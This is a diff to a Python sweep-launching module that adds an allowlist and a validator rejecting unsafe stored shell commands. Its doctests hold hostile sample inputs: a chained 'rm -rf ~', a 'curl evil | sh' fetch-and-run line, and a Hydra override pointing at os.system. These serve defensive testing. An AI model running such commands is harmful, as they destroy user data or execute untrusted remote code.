@@ -8,6 +8,15 @@ from typing import Any
 
 from omegaconf import OmegaConf
 
+# Words for Hydra in a command that is stored: how to search, and which installed launcher to use.
+# Others can start a program, and whoever wrote the folder or database is not trusted with that.
+HARMLESS = re.compile(
+    r"hydra/(launcher|sweeper(/\w+)?)=\w+"
+    r"|hydra\.launcher\.[a-z]\w*=[\w.:-]+"
+    r"|hydra\.sweep\.dir=.*"
+    r"|hydra\.sweeper\.(n_trials|n_jobs|batch_size|timeout|direction|max_failure_rate|families"
+    r"|defaults_first|may_differ|search_key|study_name|storage|(sampler|pruner)\.[a-z]\w*)=[^{]*"
+)
 SPECIAL = re.compile(r'[$`"\\!]')  # to a shell, even between double quotes
 
 
@@ -36,13 +45,40 @@ def run_command(overrides: Sequence[str], config_dir: str | None = None) -> str:
     return command([word for word in overrides if not word.startswith("verdict.")], config_dir)
 
 
+def stored_command(text: str) -> str:
+    """A command that stands in a run's folder or in a database; empty if it could do harm.
+
+    A person copies it into a shell: it must be `python -m sweeps` and nothing else.
+
+    >>> print(stored_command("python -m sweeps -m scheduler=step,cosine hydra/launcher=joblib"))
+    python -m sweeps -m scheduler=step,cosine hydra/launcher=joblib
+    >>> stored_command("python -m sweeps; rm -rf ~"), stored_command("curl evil | sh")
+    ('', '')
+    >>> stored_command("python -m sweeps '+hydra.callbacks.x._target_=os.system'")
+    ''
+    """
+    try:
+        words = shlex.split(text)
+    except ValueError:
+        return ""
+    own = words[:3] == ["python", "-m", "sweeps"]
+    plain = " ".join(map(_quoted, words))
+    return plain if own and plain == text and all(map(_is_harmless, words)) else ""
+
+
+def _is_harmless(word: str) -> bool:
+    hydras = re.match(r"[+~]*hydra\b", word) is not None
+    return not hydras or HARMLESS.fullmatch(word) is not None
+
+
 def command_of(hydra: Mapping[str, Any]) -> str:
     """The command line of a job.
 
     Args:
         hydra: the job's node `hydra`, as `HydraConfig.get()` or its `.hydra/hydra.yaml` has it.
     """
-    return run_command(typed_words(hydra), config_dir(hydra))
+    words = [word for word in typed_words(hydra) if _is_harmless(word)]
+    return run_command(words, config_dir(hydra))
 
 
 def typed_words(hydra: Mapping[str, Any]) -> list[str]:
